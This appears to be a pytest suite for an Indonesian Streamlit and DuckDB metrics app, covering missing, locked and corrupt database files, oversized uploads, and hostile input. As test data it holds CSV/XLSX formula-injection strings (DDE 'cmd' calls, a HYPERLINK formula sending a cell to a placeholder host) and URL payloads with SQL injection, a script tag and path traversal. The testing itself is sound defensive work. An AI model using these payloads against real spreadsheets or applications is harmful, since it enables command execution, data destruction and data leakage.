"""Faults and hostile input (issue #7) that need no import feature: a database file that is
missing, locked by another process or corrupt; formula injection in CSV/XLSX exports;
hostile URL parameters on every page. Browser-side XSS checks: test_hostile_browser.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from page_support import open_page
from streamlit.testing.v1 import AppTest

from metrics.data.build import DATA_DIR, build
from metrics.data.store import Store, StoreError
from metrics.ops import bench_apptest, cli

ROOT = Path(__file__).resolve().parent.parent
PAGES = bench_apptest.registered_pages()
USER_BUKTI = "SK Camat 12/2026 (dicatat pengguna)"


def _app(db: Path, use_db, page: str | None = None, **query) -> AppTest:
    return open_page(db, use_db, page, timeout=120, **query)


def _tiru(db: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "metrics", *args],
        check=False,
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "TIRU_DB": str(db), "TIRU_DEMO": "1"},
    )


def _with_user_event(db: Path) -> Path:
    build(db, DATA_DIR, with_demo=True)
    store = Store(db)
    store.record_adoption("12.09.19", "antrean_digital", 4, dt.date(2026, 1, 5), USER_BUKTI, "admin.organisasi")
    store.close()
    return db


def _user_event_kept(db: Path) -> bool:
    store = Store(db)
    try:
        return USER_BUKTI in set(store.adopsi()["bukti"].dropna())
    finally:
        store.close()


@pytest.fixture
def holder():
    """Another process holding a database file open read-write (as DuckDB's CLI would)."""
    started = []

    def hold(db: Path) -> subprocess.Popen:
        process = subprocess.Popen(
            [sys.executable, "-c", textwrap.dedent(f"""
                import duckdb, sys, time
                con = duckdb.connect({str(db)!r})
                print("memegang", flush=True)
                sys.stdin.read()
            """)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        assert process.stdout.readline().strip() == "memegang"
        started.append(process)
        return process

    yield hold
    for process in started:
        process.kill()
        process.wait(timeout=10)


# --------------------------------------------------------------------------- missing


def test_missing_database_is_built_on_first_use_by_app_and_cli(tmp_path, use_db):
    db = tmp_path / "baru" / "tiru.duckdb"
    at = _app(db, use_db)
    assert not at.exception and not at.error
    assert at.title[0].value == "Ringkasan kabupaten" and db.exists()
    db.unlink()
    done = _tiru(db, "ranking")
    assert done.returncode == 0 and done.stdout.startswith("kode_kecamatan,")


def test_missing_database_for_a_reader_names_the_recovery(tmp_path):
    with pytest.raises(StoreError, match="tiru build"):
        Store(tmp_path / "tidak-ada.duckdb").kecamatan()


def test_database_that_cannot_be_built_gives_a_message_not_a_traceback(tmp_path):
    blocker = tmp_path / "berkas"
    blocker.write_text("bukan folder")
    done = _tiru(blocker / "tiru.duckdb", "ranking")
    assert done.returncode == 1
    assert "Traceback" not in done.stderr and "TIRU_DB" in done.stderr


# --------------------------------------------------------------------------- corrupt


def test_database_corrupted_while_the_app_runs_shows_a_message_then_recovers_with_tiru_build(tmp_path, use_db):
    db = build(tmp_path / "tiru.duckdb", DATA_DIR, with_demo=True)
    at = _app(db, use_db, "pages/tabel_peringkat.py")
    assert not at.exception and at.title[0].value == "Peringkat kecamatan"
    garbage = tmp_path / "sampah"
    garbage.write_bytes(os.urandom(64 * 1024))
    os.replace(garbage, db)  # as a broken copy or a disk fault would leave it
    at.run()
    assert not at.exception
    assert at.error and "Basis data belum dapat dipakai" in at.error[0].value and "tiru build" in at.error[0].value
    done = _tiru(db, "build")  # the recovery path the message names
    assert done.returncode == 0, done.stderr
    at.run()
    assert not at.exception and not at.error and at.title[0].value == "Peringkat kecamatan"


def test_corrupt_database_at_start_gives_working_pages_and_cli(tmp_path, use_db):
    db = tmp_path / "tiru.duckdb"
    db.write_bytes(b"DUCK" + os.urandom(32 * 1024))
    done = _tiru(db, "ranking")
    assert done.returncode == 0 and "Traceback" not in done.stderr
    db.write_bytes(b"DUCK" + os.urandom(32 * 1024))
    at = _app(db, use_db, "pages/kecamatan.py")
    assert not at.exception and at.title[0].value == "Profil kecamatan"


def test_corrupt_database_is_kept_aside_not_overwritten(tmp_path):
    db = tmp_path / "tiru.duckdb"
    broken = b"DUCK" + os.urandom(32 * 1024)
    db.write_bytes(broken)
    done = _tiru(db, "ranking")
    assert done.returncode == 0 and "Traceback" not in done.stderr
    kept = [p for p in tmp_path.rglob("*") if p.is_file() and p != db and p.read_bytes() == broken]
    assert kept, "the corrupt file should be kept aside for recovery"
    # The operator is told where it is and how to recover (`tiru restore` from a backup).
    assert kept[0].name in done.stderr and "tiru restore" in done.stderr


# --------------------------------------------------------------------------- locked


def test_database_locked_by_another_process_gives_no_traceback(tmp_path, use_db, holder):
    db = _with_user_event(tmp_path / "tiru.duckdb")
    holder(db)
    at = _app(db, use_db, "pages/tabel_peringkat.py")
    assert not at.exception
    done = _tiru(db, "ranking")
    assert "Traceback" not in done.stderr


def test_database_locked_by_another_process_keeps_user_data(tmp_path, use_db, holder):
    db = _with_user_event(tmp_path / "tiru.duckdb")
    process = holder(db)
    done = _tiru(db, "ranking")
    assert done.returncode == 1 and "Traceback" not in done.stderr and "dikunci" in done.stderr
    at = _app(db, use_db)  # the app says the same, instead of a page
    assert not at.exception and at.error and "dikunci" in at.error[0].value
    process.kill()
    process.wait(timeout=10)
    assert _user_event_kept(db), "the user's adoption event was lost by a rebuild"


# --------------------------------------------------------------------------- exports


HOSTILE_CELLS = [
    '=HYPERLINK("http://contoh.invalid/?q="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_db(tmp_path) -> Path:
    """The demo database plus adoption events and a kecamatan name carrying formulas."""
    db = build(tmp_path / "tiru.duckdb", DATA_DIR, with_demo=True)
    store = Store(db)
    for n, text in enumerate(HOSTILE_CELLS):
        store.record_adoption("12.09.19", "antrean_digital", n % 5, dt.date(2026, 1, 1 + n), text, text)
    store.write(lambda con, _: con.execute("UPDATE kecamatan SET nama = $n WHERE kode = '12.09.20'",
                                           {"n": HOSTILE_CELLS[0]}), jenis="uji", oleh="test_faults")
    store.close()
    return db


def test_csv_export_neutralises_formulas(hostile_db, tmp_path, monkeypatch):
    monkeypatch.setenv("TIRU_DB", str(hostile_db))
    assert cli.main(["export", str(tmp_path / "csv"), "--format", "csv"]) == 0
    cells = []
    for name in ("adopsi", "kecamatan"):
        with open(tmp_path / "csv" / f"{name}.csv", newline="", encoding="utf-8") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    for text in HOSTILE_CELLS:  # the store strips surrounding whitespace from bukti and oleh
        assert "'" + text.strip() in cells, text
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_xlsx_export_neutralises_formulas(hostile_db, tmp_path, monkeypatch):
    import openpyxl

    monkeypatch.setenv("TIRU_DB", str(hostile_db))
    assert cli.main(["export", str(tmp_path / "xlsx"), "--format", "xlsx"]) == 0
    seen = []
    for name in ("adopsi", "kecamatan", "observasi", "indikator", "inovasi"):
        book = openpyxl.load_workbook(tmp_path / "xlsx" / f"{name}.xlsx")
        for row in book.active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.append(cell.value)
    for text in HOSTILE_CELLS:
        assert "'" + text.strip() in seen, text


# --------------------------------------------------------------------------- URL parameters

URL_KEYS = ["periode", "kecamatan", "urut", "mirip", "banding", "indikator", "sumbu_x", "sumbu_y", "proyeksi",
            "inovasi", "ukuran"]
PAYLOADS = {
    "sql": "1' OR '1'='1'; DROP TABLE observasi; --",
    "kode-asing": "99.99.99,12.09.999,32.77.02",
    "besar": "9" * 20000,
    "teks-aneh": "<script>alert(1)</script>\x00%00../../etc/passwd,,,",
}


@pytest.fixture(scope="module")
def url_db(tmp_path_factory) -> Path:
    return build(tmp_path_factory.mktemp("url") / "tiru.duckdb", DATA_DIR, with_demo=True)


@pytest.mark.parametrize("payload", list(PAYLOADS))
def test_hostile_url_parameters_are_harmless_on_every_page(url_db, use_db, payload):
    before = url_db.stat().st_ino, url_db.stat().st_mtime_ns
    rows = Store(url_db).query("SELECT count(*) AS n FROM observasi")["n"].iloc[0]
    for page in PAGES:
        query = {key: PAYLOADS[payload] for key in URL_KEYS}
        at = _app(url_db, use_db, page["berkas"] if page["url"] else None, **query)
        assert not at.exception, (page["berkas"], [e.value for e in at.exception])
        assert at.title and at.title[0].value, page["berkas"]
        # Every choice on the page is one of its own options, never the payload.
        for box in list(at.selectbox) + list(at.sidebar.selectbox):
            assert box.value is None or box.value in box.options or box.format_func(box.value) in box.options
            assert box.value != PAYLOADS[payload]
        for box in at.multiselect:
            assert PAYLOADS[payload] not in box.value
    assert (url_db.stat().st_ino, url_db.stat().st_mtime_ns) == before
    assert Store(url_db).query("SELECT count(*) AS n FROM observasi")["n"].iloc[0] == rows


# --------------------------------------------------------------------------- uploads that would stall the server (#12.2)


def _sheet_xlsx(rows: int, columns: int) -> bytes:
    """A minimal workbook whose one sheet holds rows × columns numbers, written as raw XML (fast)."""
    import random

    digits = random.Random(12).choices("0123456789", k=rows * columns)  # barely compressible, like real data
    body = "".join(f'<row r="{r}">' + "".join(f"<c><v>{d}</v></c>" for d in digits[(r - 1) * columns:r * columns])
                   + "</row>" for r in range(1, rows + 1))
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
                   'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
                   'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                   'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
                   'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
        z.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                   'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<?xml version="1.0"?><workbook {ns} {rel}><sheets><sheet name="observasi" '
                   'sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.'
                   'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                   'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
                   '</Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet {ns}><sheetData>{body}</sheetData>'
                   '</worksheet>')
    return out.getvalue()


def test_a_workbook_of_millions_of_cells_is_refused_while_streaming_in_bounded_memory(demo_store):
    import tracemalloc

    from metrics import ingest

    content = _sheet_xlsx(12_000, 200)  # 2,4 M cells, under every byte limit
    assert len(content) < ingest.MAX_BYTES
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert sum(i.file_size for i in archive.infolist()) < ingest.MAX_UNZIPPED
    tracemalloc.start()
    try:
        plan = ingest.prepare(demo_store, content, "besar.xlsx")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [m.teks() for m in plan.masalah] == [  # counted before parsing since #21.4
        "Berkas XLSX ditolak sebelum dibaca: 2.400.000 sel tertulis (termasuk sel kosong yang berformat), melebihi "
        "batas 400.000. Hapus baris dan kolom kosong yang berformat, atau simpan sebagai CSV."]
    assert peak < 120 * 1024 * 1024, f"{peak / 1e6:.0f} MB traced while reading"


def test_a_csv_header_of_60000_columns_is_refused_at_its_first_row(demo_store):
    from metrics import ingest

    header = ",".join(f"k{i}" for i in range(60_000)).encode()
    plan = ingest.prepare(demo_store, header + b"\n" + b"1," * 59_999 + b"1\n", "lebar.csv")
    assert [(m.baris, m.pesan) for m in plan.masalah] == [
        (1, "lebih dari 200 kolom; paling banyak 200 kolom diterima.")]
